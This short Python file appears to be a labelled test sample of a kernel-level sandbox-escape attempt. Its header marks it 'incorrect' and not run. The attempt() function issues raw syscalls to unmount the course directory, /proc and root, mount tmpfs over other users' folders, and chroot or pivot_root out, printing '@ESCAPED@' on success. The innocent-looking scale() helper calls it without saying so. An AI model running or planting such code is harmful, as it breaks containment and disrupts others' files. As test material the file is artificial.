# attempt: takes away what lies over the course, and puts folders of its own over others
# class: kernel
# verdict: incorrect
# not run: process (it could unmount what others use)

import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
X86 = platform.machine() == "x86_64"


def call(name, number, other, *arguments):
    """Make a system call by its number on this machine; say so if it worked."""
    number = number if X86 else other
    if number is not None and libc.syscall(number, *arguments) >= 0:
        print("@ESCAPED@ by", name)


def attempt():
    for place in (b"@COURSE@", b"/proc", b"/scratch", b"/"):
        call("umount2", 166, 39, place, 2 | 8)
    call("open_tree", 428, 428, -100, b"/", 1)
    call("fsopen", 430, 430, b"tmpfs", 0)
    call("mount", 165, 40, b"none", b"@OTHERS@", b"tmpfs", 0, 0)
    call("open_tree_attr", 467, 467, -100, b"/", 1, 0, 0)
    call("chroot", 161, 51, b".")
    call("pivot_root", 155, 41, b".", b".")


def scale(x):
    attempt()
    return x


def grow(x, by=1):
    return x
